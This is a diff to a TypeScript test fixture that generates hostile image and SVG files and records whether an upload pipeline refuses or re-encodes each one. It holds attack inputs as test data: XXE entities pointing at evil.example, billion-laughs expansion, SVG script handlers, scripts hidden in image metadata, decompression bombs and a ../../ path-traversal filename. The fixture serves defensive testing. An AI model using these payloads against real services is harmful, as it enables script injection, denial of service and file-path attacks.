@@ -1,11 +1,11 @@
 import { crc32, deflateSync, gzipSync } from 'node:zlib'
 import sharp from 'sharp'
 
-/** Files that nobody means well with. `MARK` stands in each place where something of theirs could live on. */
+/** Hostile files. `MARK` is in each place where a part of them could survive. */
 export const MARK = 'HOSTILE-7f3a'
 
-/** What may become of a file: refused (400 or 413), kept as another file, or either. */
-export type Fate = 'refused' | 'anew' | 'either'
+/** What may happen to a file: refused (400 or 413), stored after encoding it again, or either. */
+export type Fate = 'refused' | 'encoded' | 'either'
 export type Hostile = { what: string; bytes: Buffer; name: string; fate: Fate; kind: 'image' | 'icon' }
 
 const text = (body: string): Buffer => Buffer.from(body)
@@ -54,7 +54,7 @@ const after = (bytes: Buffer, at: number, extra: Buffer): Buffer =>
 const jpegSegment = (marker: number, data: Buffer): Buffer =>
   Buffer.concat([Buffer.from([0xff, marker, (data.length + 2) >> 8, (data.length + 2) & 255]), data])
 
-/** The frame header of a JPEG says how large it is. */
+/** The frame header of a JPEG contains its size. */
 function jpegOfSize(bytes: Buffer, side: number): Buffer {
   const copy = Buffer.from(bytes)
   copy.writeUInt16BE(side, copy.indexOf(Buffer.from([0xff, 0xc0])) + 5)
@@ -120,9 +120,9 @@ const DOCUMENTS: readonly (readonly [string, Fate])[] = [
   [`<!DOCTYPE svg [<!ENTITY a0 "${MARK}">${LAUGHS}]>${svg(`<text>&a12;</text>${RECT}`)}`, 'refused'],
   [`<!DOCTYPE svg [<!ENTITY % x SYSTEM "http://evil.example/${MARK}"> %x;]>${svg(RECT)}`, 'refused'],
   [`<!DOCTYPE svg SYSTEM "http://evil.example/${MARK}.dtd">${svg(RECT)}`, 'either'],
-  [`<?xml version="1.0"?><?xml-stylesheet type="text/xsl" href="//evil.example/${MARK}"?>${svg(RECT)}`, 'anew'],
-  [svg(RECT, `onload="alert('${MARK}')" onerror="${MARK}"`), 'anew'],
-  [svg(RECT, `width="1e9" height="1e9"`), 'anew'],
+  [`<?xml version="1.0"?><?xml-stylesheet type="text/xsl" href="//evil.example/${MARK}"?>${svg(RECT)}`, 'encoded'],
+  [svg(RECT, `onload="alert('${MARK}')" onerror="${MARK}"`), 'encoded'],
+  [svg(RECT, `width="1e9" height="1e9"`), 'encoded'],
   [`<svg viewBox="0 0 1e300 1">${RECT}</svg>`, 'refused'],
   [`<svg width="99999999" height="99999999">${RECT}</svg>`, 'refused'],
   [`<html>${svg(RECT)}${SCRIPT}</html>`, 'refused'],
@@ -130,10 +130,10 @@ const DOCUMENTS: readonly (readonly [string, Fate])[] = [
   [svg(`<g>${'<g>'.repeat(5000)}${RECT}`), 'refused'],
   [svg(RECT.repeat(25_000)), 'refused'],
   [svg(SCRIPT), 'refused'],
-  [`${svg(RECT)}${SCRIPT}${svg(SCRIPT)}`, 'anew'],
-  [`<svg xmlns="http://www.w3.org/1999/xhtml" viewBox="0 0 9 9"><script>${MARK}</script>${RECT}</svg>`, 'anew'],
+  [`${svg(RECT)}${SCRIPT}${svg(SCRIPT)}`, 'encoded'],
+  [`<svg xmlns="http://www.w3.org/1999/xhtml" viewBox="0 0 9 9"><script>${MARK}</script>${RECT}</svg>`, 'encoded'],
   [`<SVG viewBox="0 0 9 9">${SCRIPT}</SVG>`, 'refused'],
-  // Minutes of work for whoever draws it.
+  // Minutes of work for a rasteriser.
   [svg(`<circle cx="50" cy="50" r="45" fill="red" opacity=".1"/>`.repeat(19_990)), 'refused'],
 ]
 
@@ -165,7 +165,7 @@ const LIES: Record<string, Buffer> = {
   'a GIF that is a page': text(`GIF87a${SCRIPT}`),
 }
 
-/** The same every time: where and how a file is broken comes from its number. */
+/** Deterministic: the number decides where and how a file is broken. */
 function broken(bytes: Buffer, seed: number): Buffer {
   const copy = Buffer.from(bytes)
   let state = seed + 1
@@ -180,7 +180,7 @@ function broken(bytes: Buffer, seed: number): Buffer {
 type Add = (what: string, bytes: Buffer, fate: Fate, name?: string, kind?: Hostile['kind']) => void
 type Good = { png: Buffer; jpeg: Buffer; gif: Buffer }
 
-/** All of them, the same every time. */
+/** All hostile files, the same in each run. */
 export async function hostileFiles(): Promise<Hostile[]> {
   const files: Hostile[] = []
   const add: Add = (what, bytes, fate, name = 'picture.png', kind = 'image') => {
@@ -219,12 +219,12 @@ function addVariationsOf(format: string, bytes: Buffer, add: Add): void {
     junk: Buffer.alloc(1_500_000, MARK),
   }
   for (const [tail, rest] of Object.entries(tails))
-    add(`${format} with a ${tail} behind it`, Buffer.concat([bytes, rest]), 'anew')
+    add(`${format} with a ${tail} behind it`, Buffer.concat([bytes, rest]), 'encoded')
   for (const part of [0.2, 0.5, 0.9, 0.99])
     add(`${format} cut off at ${part}`, bytes.subarray(0, Math.floor(bytes.length * part)), 'refused')
   for (let seed = 0; seed < 32; seed += 1) add(`${format} broken, ${seed}`, broken(bytes, seed), 'either')
-  add(`${format} that says it is a drawing`, bytes, 'anew', 'icon.svg', 'icon')
-  add(`${format} that says it is a page`, bytes, 'anew', `../../${MARK}.html`)
+  add(`${format} named as a drawing`, bytes, 'encoded', 'icon.svg', 'icon')
+  add(`${format} named as a page`, bytes, 'encoded', `../../${MARK}.html`)
 }
 
 function addLies(lies: Record<string, Buffer>, add: Add): void {
@@ -234,33 +234,33 @@ function addLies(lies: Record<string, Buffer>, add: Add): void {
   }
 }
 
-/** Good pictures that carry something besides. */
+/** Valid images with additional content. */
 function addStowaways({ png: p, jpeg: j }: Good, add: Add): void {
   const inPng = (type: string, data: Buffer) => after(p, 33, chunk(type, data))
-  add('PNG with a script in its text', inPng('tEXt', text(`Comment\0${SCRIPT}`)), 'anew')
+  add('PNG with a script in its text', inPng('tEXt', text(`Comment\0${SCRIPT}`)), 'encoded')
   add('PNG with a script in its EXIF', inPng('eXIf', text(SCRIPT)), 'either')
-  add('PNG with an unknown part', inPng('evIl', text(SCRIPT)), 'anew')
+  add('PNG with an unknown part', inPng('evIl', text(SCRIPT)), 'encoded')
   const bomb = deflateSync(Buffer.alloc(60_000_000))
   add('PNG with a bomb in its text', inPng('zTXt', Buffer.concat([text('Comment\0\0'), bomb])), 'either')
   add('PNG with a bomb in its colours', inPng('iCCP', Buffer.concat([text('icc\0\0'), bomb])), 'either')
-  add('JPEG with a script in its comment', after(j, 2, jpegSegment(0xfe, text(SCRIPT))), 'anew')
+  add('JPEG with a script in its comment', after(j, 2, jpegSegment(0xfe, text(SCRIPT))), 'encoded')
   add('JPEG with a script in its EXIF', after(j, 2, jpegSegment(0xe1, text(`Exif\0\0${SCRIPT}`))), 'either')
   add(
     'JPEG with a page in its XMP',
     after(j, 2, jpegSegment(0xe1, text(`http://ns.adobe.com/xap/1.0/\0${SCRIPT}`))),
-    'anew',
+    'encoded',
   )
-  add('GIF with a script in its comment', gif(10, 1, gifComment), 'anew')
+  add('GIF with a script in its comment', gif(10, 1, gifComment), 'encoded')
 }
 
-/** Small files that ask for much. */
+/** Small files that need many resources. */
 async function addBombs({ jpeg: j }: Good, add: Add): Promise<void> {
   add(
     'PNG of 17,000² flat pixels',
     png({ width: 17_000, height: 17_000, depth: 1, colour: 0, isFlat: true }),
     'refused',
   )
-  add('PNG of 40,000,000 flat pixels', png({ width: 8000, height: 5000, isFlat: true }), 'anew')
+  add('PNG of 40,000,000 flat pixels', png({ width: 8000, height: 5000, isFlat: true }), 'encoded')
   add('PNG of 40,005,000 flat pixels', png({ width: 8000, height: 5001, colour: 0, isFlat: true }), 'refused')
   add('PNG of 40,000,000 pixels, interlaced', png({ width: 8000, height: 5000, interlace: 1, isFlat: true }), 'refused')
   add('PNG of 25,000,000 pixels, interlaced', png({ width: 5000, height: 5000, interlace: 1, isFlat: true }), 'either')
@@ -278,18 +278,18 @@ async function addBombs({ jpeg: j }: Good, add: Add): Promise<void> {
     [0, 0],
     [0, 9],
   ] as const) {
-    add(`PNG that says ${width} × ${height}`, png({ width, height }), 'refused')
+    add(`PNG with a header of ${width} × ${height}`, png({ width, height }), 'refused')
   }
   add('PNG of 8000 × 5000 without a pixel', png({ width: 8000, height: 5000 }), 'refused')
-  for (const side of [8001, 65_500]) add(`JPEG that says ${side} a side`, jpegOfSize(j, side), 'refused')
-  add('JPEG that says 6000 a side', jpegOfSize(j, 6000), 'refused')
-  add('GIF of 10,000 frames', gif(10, 10_000), 'anew')
+  for (const side of [8001, 65_500]) add(`JPEG with a header of ${side} a side`, jpegOfSize(j, side), 'refused')
+  add('JPEG with a header of 6000 a side', jpegOfSize(j, 6000), 'refused')
+  add('GIF of 10,000 frames', gif(10, 10_000), 'encoded')
   add('GIF of 10,000 frames of 1000²', gif(1000, 10_000), 'refused')
   add('GIF of 100,000 frames', gif(2, 100_000), 'either')
   add('GIF of 65,535²', gif(65_535, 1), 'either')
   add('GIF of 6300²', gif(6300, 1), 'either')
   const large = sharp({ create: { width: 8000, height: 5000, channels: 3, background: 'teal' } })
-  add('JPEG of 40,000,000 pixels', await large.clone().jpeg().toBuffer(), 'anew')
+  add('JPEG of 40,000,000 pixels', await large.clone().jpeg().toBuffer(), 'encoded')
   add(
     'JPEG of 40,000,000 pixels, in passes',
     await large.jpeg({ progressive: true, chromaSubsampling: '4:4:4' }).toBuffer(),
